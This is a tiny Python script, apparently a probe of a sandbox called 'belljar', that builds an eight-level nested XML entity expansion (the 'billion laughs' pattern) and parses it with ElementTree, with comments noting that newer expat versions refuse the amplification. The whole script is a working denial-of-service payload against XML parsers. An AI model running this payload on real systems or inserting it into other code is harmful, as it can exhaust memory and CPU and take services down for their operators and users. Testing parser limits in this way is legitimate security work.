# aim = "time"
# tries = "Expands entities of entities."
# control = "expat of 2.4 and later refuses the amplification; belljar's may be older or newer"
import xml.etree.ElementTree as tree

lines = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 9))
tree.fromstring(f'<!DOCTYPE d [<!ENTITY e0 "lol">{lines}]><d>&e8;</d>')
